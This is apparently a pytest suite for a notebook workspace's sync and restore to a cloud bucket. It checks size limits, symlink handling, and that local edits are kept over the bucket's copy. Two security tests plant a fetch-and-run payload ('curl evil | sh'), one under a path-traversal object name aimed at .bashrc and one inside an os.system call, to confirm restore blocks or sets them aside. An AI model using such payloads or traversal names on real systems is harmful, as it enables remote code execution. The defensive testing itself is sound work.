"""The workspace in the bucket, against the GCS emulator: what a recreated VM gets back, what a
sync sends, and what it never touches."""

from __future__ import annotations

import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from kgg.agent import workspace
from kgg.agent.workspace import restore, sync
from kgg.common import storage
from tests.fake_cloud import FakeCloud

REPO = Path(__file__).resolve().parents[2]


def url(bucket: str) -> str:
    return f"gs://{bucket}/workspace"


def files(root: Path) -> dict[str, str]:
    return {
        p.relative_to(root).as_posix(): p.read_text()
        for p in sorted(root.rglob("*"))
        if p.is_file() and not p.is_symlink()
    }


def objects(bucket: str) -> dict[str, str]:
    return {
        info.name: storage.read_bytes(f"{url(bucket)}/{info.name}").decode()  # type: ignore[union-attr]
        for info in storage.list_objects(url(bucket))
    }


def test_a_new_vm_gets_the_workspace_back(gcs_bucket: str, tmp_path: Path) -> None:
    old = tmp_path / "old"
    (old / "notes").mkdir(parents=True)
    (old / "walkthrough.ipynb").write_text('{"cells": ["mine"]}')
    (old / "notes/todo.md").write_text("- train on L4")
    sync(old, url(gcs_bucket))
    new = tmp_path / "new"  # another disk, another zone

    report = restore(new, url(gcs_bucket))

    assert report.restored == 2
    assert files(new) == files(old)


def test_restore_never_deletes_nor_replaces_a_local_file(gcs_bucket: str, tmp_path: Path) -> None:
    """After a crash the bucket's copy may be older than local edits not synced yet."""
    root = tmp_path / "work"
    root.mkdir()
    (root / "a.txt").write_text("in the bucket")
    sync(root, url(gcs_bucket))
    (root / "a.txt").write_text("changed locally, not synced yet")
    (root / "b.txt").write_text("new locally")

    report = restore(root, url(gcs_bucket))

    assert files(root) == {"a.txt": "changed locally, not synced yet", "b.txt": "new locally"}
    assert report.kept == ["a.txt"] and report.restored == 0
    assert report.notes == ["kept the local a.txt (newer than the bucket's copy, or no file)"]


def test_restore_stops_at_its_size_bound_saying_so(
    gcs_bucket: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(workspace, "MAX_FILE_BYTES", 40)
    for name, size in (("a.bin", 10), ("b.bin", 10), ("c.bin", 10), ("0-huge.bin", 50)):
        storage.write_bytes(f"{url(gcs_bucket)}/{name}", b"x" * size)
    root = tmp_path / "work"

    report = restore(root, url(gcs_bucket), max_bytes=25)

    assert sorted(files(root)) == ["a.bin", "b.bin"]
    assert report.too_big == ["0-huge.bin"] and report.unfinished
    assert report.notes == [
        f"stopped at {25 / (1 << 30):g} GiB: 1 object(s) of {url(gcs_bucket)}/ not restored "
        "(more than a workspace holds: check who may write it)"
    ]


def test_sync_sends_new_and_changed_files_and_deletes_what_was_deleted(
    gcs_bucket: str, tmp_path: Path
) -> None:
    root = tmp_path / "work"
    root.mkdir()
    (root / "keep.txt").write_text("same")
    (root / "change.txt").write_text("v1")
    (root / "remove.txt").write_text("bye")
    sync(root, url(gcs_bucket))
    (root / "change.txt").write_text("v2")
    (root / "remove.txt").unlink()
    (root / "new.txt").write_text("hi")

    report = sync(root, url(gcs_bucket))

    assert sorted(report.uploaded) == ["change.txt", "new.txt"]
    assert report.deleted == ["remove.txt"]
    assert objects(gcs_bucket) == {"change.txt": "v2", "keep.txt": "same", "new.txt": "hi"}


def test_sync_skips_links_checkpoints_caches_and_huge_files(
    gcs_bucket: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(workspace, "MAX_FILE_BYTES", 10)
    secret = tmp_path / "outside.txt"
    secret.write_text("not the workspace's")
    root = tmp_path / "work"
    (root / ".ipynb_checkpoints").mkdir(parents=True)
    (root / ".ipynb_checkpoints/n-checkpoint.ipynb").write_text("{}")
    (root / "pkg/__pycache__").mkdir(parents=True)
    (root / "pkg/__pycache__/m.pyc").write_text("x")
    (root / "pkg/m.py").write_text("x = 1")
    (root / "link.txt").symlink_to(secret)
    (root / "linked-dir").symlink_to(tmp_path, target_is_directory=True)
    (root / "big.bin").write_text("0123456789abcdef")

    report = sync(root, url(gcs_bucket))

    assert objects(gcs_bucket) == {"pkg/m.py": "x = 1"}
    assert report.too_big == ["big.bin"]
    assert "over 1 GiB, not kept: big.bin" in report.summary()


def test_sync_stops_at_its_deadline(gcs_bucket: str, tmp_path: Path) -> None:
    root = tmp_path / "work"
    root.mkdir()
    for index in range(5):
        (root / f"{index}.txt").write_text(str(index))

    report = sync(root, url(gcs_bucket), deadline=time.monotonic() - 1)

    assert report.unfinished and report.uploaded == []


def test_restore_refuses_object_names_that_climb_out(
    gcs_bucket_like_real_gcs: str, tmp_path: Path
) -> None:
    """Anyone who can write the bucket (any notebook user) must not write outside ~/work."""
    bucket = gcs_bucket_like_real_gcs
    storage.write_bytes(f"gs://{bucket}/workspace/../../.bashrc", b"curl evil | sh")
    storage.write_bytes(f"gs://{bucket}/workspace/fine.txt", b"ok")
    root = tmp_path / "home/jupyter/work"
    root.parent.mkdir(parents=True)

    report = restore(root, url(bucket))

    assert report.restored == 1
    assert files(root) == {"fine.txt": "ok"}
    assert not (tmp_path / "home/.bashrc").exists() and not (tmp_path / ".bashrc").exists()


def test_prepare_makes_the_folder_and_copies_the_walkthrough_once(tmp_path: Path) -> None:
    source = tmp_path / "app/walkthrough.ipynb"
    source.parent.mkdir()
    source.write_text('{"cells": []}')
    root = tmp_path / "home/work"
    root.parent.mkdir()

    first = workspace.prepare(root, source)
    (root / "walkthrough.ipynb").write_text('{"cells": ["mine"]}')
    second = workspace.prepare(root, source)

    assert first == [f"copied walkthrough.ipynb into {root}"] and second == []
    assert (root / "walkthrough.ipynb").read_text() == '{"cells": ["mine"]}'


def test_prepare_moves_a_link_aside_and_never_writes_through_one(tmp_path: Path) -> None:
    """`ln -s /usr/lib/systemd/system-generators ~/work`, or a link in the walkthrough's place:
    both stay the user's, and nothing lands where they point."""
    source = tmp_path / "app/walkthrough.ipynb"
    source.parent.mkdir()
    source.write_text('{"cells": []}')
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    home = tmp_path / "home"
    home.mkdir()
    (home / "work").symlink_to(elsewhere, target_is_directory=True)

    notes = workspace.prepare(home / "work", source)

    moved = list(home.glob("work.moved-*"))
    assert len(moved) == 1 and moved[0].is_symlink()
    assert "was not a folder: moved to" in notes[0]
    assert list(elsewhere.iterdir()) == []
    (home / "work/walkthrough.ipynb").unlink()
    (home / "work/walkthrough.ipynb").symlink_to(elsewhere / "planted.ipynb")
    assert workspace.prepare(home / "work", source) == []
    assert not (elsewhere / "planted.ipynb").exists()


def test_sync_of_a_workspace_swapped_for_a_link_sends_and_deletes_nothing(
    gcs_bucket: str, tmp_path: Path
) -> None:
    root = tmp_path / "work"
    root.mkdir()
    (root / "notes.md").write_text("mine")
    sync(root, url(gcs_bucket))
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "other.txt").write_text("not the workspace")
    root.rename(tmp_path / "work.real")
    root.symlink_to(elsewhere, target_is_directory=True)

    report = sync(root, url(gcs_bucket))

    assert objects(gcs_bucket) == {"notes.md": "mine"}
    assert report.summary().startswith(f"{root} is not a folder (a link?): nothing synced")


def test_the_boots_restore_keeps_local_files_over_the_buckets_and_says_so(
    gcs_bucket: str, tmp_path: Path
) -> None:
    """`python -m kgg.agent workspace restore`, as the boot runs it, on a VM restarted in place
    after a crash: an edit not synced yet stays, a bucket writer's newer train.py does not
    replace the owner's (it lands beside it, named as such), a file only in the bucket comes
    back."""
    work = tmp_path / "root/home/jupyter/work"
    work.mkdir(parents=True)
    (work / "notebook.ipynb").write_text('{"cells": ["synced"]}')
    sync(work, url(gcs_bucket))
    (work / "notebook.ipynb").write_text('{"cells": ["edited after the last sync"]}')
    later = time.time() + 3600
    os.utime(work / "notebook.ipynb", (later, later))
    (work / "train.py").write_text("print('the owner's code')\n")
    earlier = time.time() - 3600
    os.utime(work / "train.py", (earlier, earlier))
    storage.write_bytes(f"{url(gcs_bucket)}/train.py", b"import os; os.system('curl evil | sh')\n")
    storage.write_bytes(f"{url(gcs_bucket)}/notes.md", b"from an earlier VM\n")
    metadata = {
        f"instance/attributes/{key}": value
        for key, value in {
            "kgg-bucket": gcs_bucket,
            "kgg-run-id": "run-1",
            "kgg-jupyter-password-secret": "projects/1/secrets/kgg-dev-jupyter-password",
            "kgg-workspace-prefix": "workspace/",
        }.items()
    }

    with FakeCloud(metadata=metadata) as cloud:
        result = subprocess.run(
            [sys.executable, "-m", "kgg.agent", "workspace", "restore"],
            cwd=REPO, capture_output=True, text=True, timeout=120, check=False,
            env={**os.environ, "KGG_ROOT": str(tmp_path / "root"),
                 "KGG_METADATA_URL": cloud.environment()["KGG_METADATA_URL"]},
        )  # fmt: skip

    assert result.returncode == 0, result.stderr
    assert (work / "notebook.ipynb").read_text() == '{"cells": ["edited after the last sync"]}'
    assert (work / "train.py").read_text() == "print('the owner's code')\n"
    (aside,) = work.glob("train.bucket-*.py")
    assert aside.read_text() == "import os; os.system('curl evil | sh')\n"
    assert (work / "notes.md").read_text() == "from an earlier VM\n"
    lines = result.stdout.splitlines()
    assert (
        "workspace: kept the local notebook.ipynb (newer than the bucket's copy, or no file)"
        in (lines)
    )
    assert any(
        line.startswith("workspace: kept the local train.py; the bucket's copy is newer")
        and line.endswith(f"saved as {aside.name}")
        for line in lines
    )
    assert lines[-1] == (
        f"workspace: 2 file(s) restored from {url(gcs_bucket)}; 2 local file(s) kept over the "
        "bucket's"
    )
